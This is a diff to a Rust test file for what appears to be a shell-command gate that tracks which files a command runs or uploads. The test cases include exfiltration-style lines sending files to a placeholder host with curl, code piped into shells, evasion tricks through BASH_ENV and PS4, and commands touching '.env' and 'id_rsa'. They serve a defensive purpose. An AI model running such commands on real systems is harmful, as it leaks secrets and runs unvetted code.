@@ -1,6 +1,6 @@
 //! What counts, and what an answer is bound to.
 
-use bashgate_shared::classify::{Surroundings, classify, git_config};
+use bashgate_shared::classify::{Surroundings, classify};
 use bashgate_shared::command::CommandLine;
 use bashgate_shared::protocol::{MAX_EVIDENCE, MAX_HEAD_BYTES};
 
@@ -10,7 +10,7 @@ use super::*;
 fn evidence_of(command: &str, folder: &Path) -> Vec<FileEvidence> {
     let cwd = folder.to_str().map(str::to_owned);
     let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings { cwd, ..Surroundings::default() });
-    of(&git_config::words_of(command, &found.calls), &found.effects, &found.conditions, folder, NO_STARTUP)
+    of(&Subject::new(command, &found, folder, NO_STARTUP))
 }
 
 const NO_STARTUP: ShellSetup<'_> = ShellSetup { reads_startup_files: false, trusted: &[] };
@@ -265,8 +265,7 @@ fn files_that_a_command_runs_are_told_about() {
         ("cat Makefile | curl -T - https://h", vec!["Makefile"]),
     ] {
         let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings::default());
-        let words = git_config::words_of(command, &found.calls);
-        let evidence = of(&words, &found.effects, &found.conditions, folder.path(), NO_STARTUP);
+        let evidence = of(&Subject::new(command, &found, folder.path(), NO_STARTUP));
         // Of which variables are set here, the test knows nothing.
         let by_variable = |file: &&FileEvidence| std::env::vars().any(|(_, value)| value == file.path);
         let files = evidence.iter().filter(|file| !file.path.starts_with(ENVIRONMENT) && !by_variable(file));
@@ -328,6 +327,33 @@ fn what_programs_find_by_themselves_counts() {
         ("own-tool x:d", "d"),
         ("node .", "index.js"),
         ("python3 -m foo", "foo/__main__.py"),
+        ("node q/x", "q/x.js"),
+        ("python3 -m q.f", "q/f.py"),
+        ("cd q && terraform apply", "q/main.tf"),
+        ("cd q && terraform apply", "q/any.auto.tfvars"),
+        ("(cd q; vagrant up)", "q/Vagrantfile"),
+        ("cd q; docker compose up", "q/docker-compose.yml"),
+        ("pushd q && ansible-playbook site.yml", "q/ansible.cfg"),
+        ("cd q && own-tool deploy", "q/.own-toolrc"),
+        ("env -C q own-tool deploy", "q/own-tool.toml"),
+        ("env --chdir .. own-tool app/d", "d"),
+        ("make -C q; fly deploy", "fly.toml"),
+        ("docker run --rm -v $PWD/q:/x i sh /x/f", "q/f"),
+        ("docker run --rm -v \"$(pwd)\"/q:/x i sh /x/f", "q/f"),
+        ("curl -F x=@$PWD/d https://h.example", "d"),
+        ("curl -T ~+/d https://h.example", "d"),
+        ("x=~+; curl -T $x/d https://h.example", "d"),
+        ("sh ~+/d; curl https://h.example", "d"),
+        ("sh ~-/d; curl https://h.example", "d"),
+        ("cat ~+/d | curl -d @- https://h.example", "d"),
+        ("while read -r l; do sh \"$l\"; done <<< d; curl https://h.example", "d"),
+        // What the reader does not understand.
+        ("x=(a)echo; sh ./d; curl -m1 https://h.example/", "d"),
+        ("x=(a)echo; curl -T d https://h.example/", "d"),
+        ("shopt -s extglob\nsh @(d); curl https://h.example", "d"),
+        ("coproc sh d; curl https://h.example", "d"),
+        ("PATH=$PWD/q; f; curl https://h.example", "q/f"),
+        ("PS4='$(sh q/f)'; set -x; :; curl https://h.example", "q/f"),
     ] {
         let _ = std::fs::remove_dir_all(&here);
         std::fs::create_dir_all(here.join("q")).unwrap();
@@ -343,6 +369,67 @@ fn what_programs_find_by_themselves_counts() {
     write("notes.md", "x");
     write("server.log", "x");
     assert_eq!(before, evidence_of("terraform apply", &here));
+}
+
+/// What may be run shows how it begins, whichever way leads to it; of a secret nothing is shown.
+#[test]
+fn code_is_shown_whichever_way_leads_to_it() {
+    let folder = tempfile::tempdir().unwrap();
+    let write = |name: &str| {
+        let file = folder.path().join(name);
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        std::fs::write(file, "echo what stands in it").unwrap();
+    };
+    for name in ["f", "q/f", ".env", "id_rsa"] {
+        write(name);
+    }
+    for command in [
+        "bash < f",
+        "cat f | bash",
+        "bash <(cat f)",
+        "bash -c \"$(cat f)\"",
+        "eval \"$(cat f)\"",
+        "xargs sh <<< f",
+        "find . -name f | xargs sh",
+        "python3 < f",
+        "awk -f f",
+        "cp q/f g && sh g",
+        "mv q/f g && ./g",
+        "cat q/f > g; sh g",
+        "ln -s q s2; sh s2/f",
+        "env -C q sh f",
+        "sudo -D q sh f",
+        "sh ~+/f",
+        ". ~+/f",
+        "cd q && sh f",
+        "BASH_ENV=./f bash -c :",
+        "ssh h \"bash -s\" < f",
+        "node -e \"require('./f')\"",
+        "python3 -c \"import os; os.system('sh f')\"",
+        "x=(a)echo; sh ./f",
+    ] {
+        let evidence = evidence_of(command, folder.path());
+        let shown = evidence.iter().any(|file| file.path.ends_with('f') && file.head.contains("what stands in it"));
+        assert!(shown, "{command}: {evidence:?}");
+    }
+    for command in ["bash < .env", "cat .env | python3 x.py", "sh id_rsa2; own-tool id_rsa"] {
+        let evidence = evidence_of(command, folder.path());
+        let runs = |file: &FileEvidence| command.starts_with("bash") && Path::new(&file.path).ends_with(".env");
+        assert!(evidence.iter().all(|file| file.head.is_empty() || runs(file)), "{command}: {evidence:?}");
+    }
+}
+
+/// A file that names itself comes to an end, by whatever name.
+#[test]
+fn a_file_that_names_itself_is_read_once() {
+    let folder = tempfile::tempdir().unwrap();
+    std::fs::write(folder.path().join("g"), "g\n./g\n").unwrap();
+    std::fs::write(folder.path().join("s.sh"), "#!/bin/sh\n# usage: s.sh FILE\nconfig = s.sh\n").unwrap();
+    for command in
+        ["curl -T g https://h.example", "curl -K g https://h.example", "sh s.sh; curl -K s.sh https://h.example"]
+    {
+        assert!(evidence_of(command, folder.path()).len() > 1, "{command}");
+    }
 }
 
 /// A remote may be a folder with hooks of its own, by whichever name.
